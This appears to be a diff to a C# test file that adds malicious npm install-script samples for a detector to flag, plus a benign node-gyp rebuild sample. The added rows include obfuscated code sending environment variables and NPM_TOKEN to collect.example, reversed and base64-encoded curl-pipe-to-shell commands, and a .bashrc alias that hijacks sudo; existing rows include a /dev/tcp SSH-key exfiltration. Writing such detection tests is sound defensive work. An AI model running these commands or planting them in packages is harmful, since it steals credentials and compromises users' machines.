@@ -33,6 +33,11 @@ public sealed class ScriptTests : IDisposable
         { "node setup.js", "const x=['c','u','r','l',' -d @/etc/passwd https://collect.example'].join('');require('child_process').execSync(x)" },
         { "wget -qO- https://collect.example/i.sh | bash", "" },
         { "bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444; cat ~/.ssh/id_rsa >&3'", "" },
+        { "node setup.js", "const r=require;const m=r('ht'+'tps');let o=[];for(const k in process.env){o.push(k+'='+process.env[k])};m.request('https://collect.example',{method:'POST'}).end(o.join())" },
+        { "node setup.js", "const {NPM_TOKEN}=process.env;import('node:https').then(h=>h.get('https://collect.example/?t='+NPM_TOKEN))" },
+        { "node setup.js", "const s='hs | elpmaxe.tcelloc lruc';require('child_process').execSync(s.split('').reverse().join(''))" },
+        { "sh -c \"$(echo Y3VybCBldmlsLmV4YW1wbGV8c2g= | base64 -d)\"", "" },
+        { "node setup.js", "require('fs').appendFileSync(require('os').homedir()+'/.bashrc','alias sudo=/tmp/.x')" },
         { "npm run helper", "const d=require('dns');d.resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0,60)+'.collect.example',()=>{})" },
     };
 
@@ -64,6 +69,7 @@ public sealed class ScriptTests : IDisposable
         { "node setup.js", "const fs=require('fs');const path=require('path');fs.mkdirSync(path.join(__dirname,'cache'),{recursive:true});if(process.env.CI){console.log('CI')}" },
         { "node setup.js", "// See https://example.com for how curl | sh is avoided\nconst {execFileSync}=require('child_process');execFileSync('node-gyp',['rebuild'],{stdio:'inherit'});" },
         { "patch-package", "" },
+        { "node setup.js", "const {execFileSync}=require('child_process');const fs=require('fs');if(!fs.existsSync('prebuilds/'+process.platform)){execFileSync('node-gyp',['rebuild'],{stdio:'inherit',env:{...process.env,npm_config_build_from_source:'true'}})}" },
     };
 
     [Theory]
